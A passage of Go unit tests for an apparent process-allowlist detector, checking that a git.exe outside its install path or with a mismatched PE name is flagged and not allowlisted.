			require.Equal(t, tt.want, g.Match([]byte(tt.value)), tt.reason)
		})
	}
	_, err := CompileGlob("**")
	require.ErrorIs(t, err, ErrEmptyPattern)
}

// TestAllowPathBeforePEName: a rule for a program by name says where it
// belongs whatever its PE name condition, and a rule for the name without a
// path lets it run anywhere (review finding: a pe_name on a rule used to
// switch the path check off).
func TestAllowPathBeforePEName(t *testing.T) {
	path, err := CompileGlob(`C:\Program Files\Git\*\git.exe`)
	require.NoError(t, err)
	cat := func(rules ...AllowRule) *Detector {
		return NewDetector(&Catalog{Services: []Service{{Domain: "github.com", Category: "github"}}, Allow: rules,
			Weights: Weights{Service: 10, UnexpectedPath: 25}})
	}
	strict := AllowRule{Process: "git.exe", PEName: "git.exe", Path: &path, Domains: []string{"github.com"}, Ref: "a:2"}
	anywhere := AllowRule{Process: "git.exe", Domains: []string{"github.com"}, Ref: "a:3"}
	ev := func(image, ofn string) *Event {
		return &Event{EventCode: b("1"), Image: b(image), OriginalFileName: b(ofn), CommandLine: b("git clone https://github.com/a/b")}
	}
	for _, tt := range []struct {
		name       string
		d          *Detector
		ev         *Event
		allowed    bool
		unexpected string
		reason     string
	}{
		{"installed", cat(strict), ev(`C:\Program Files\Git\cmd\git.exe`, "git.exe"), true, "", "path and PE name match"},
		{"impostor, no pe name", cat(strict), ev(`C:\Users\Public\git.exe`, ""), false, "a:2", "outside the path: unexpected, whatever the PE name"},
		{"impostor, other pe name", cat(strict), ev(`C:\Users\Public\git.exe`, "evil.exe"), false, "a:2", "the PE name condition does not hide the path"},
		{"installed, other pe name", cat(strict), ev(`C:\Program Files\Git\cmd\git.exe`, "evil.exe"), false, "", "where git belongs, but not git: not allowed, not unexpected"},
		{"a rule without a path", cat(strict, anywhere), ev(`D:\tools\git.exe`, ""), true, "", "a path-less rule for the name places it anywhere"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.d.NewScorer().Score(tt.ev)
			require.Equal(t, tt.allowed, r.Allowlisted, tt.reason)
			require.Equal(t, tt.unexpected, r.UnexpectedPath, tt.reason)
		})
	}
}
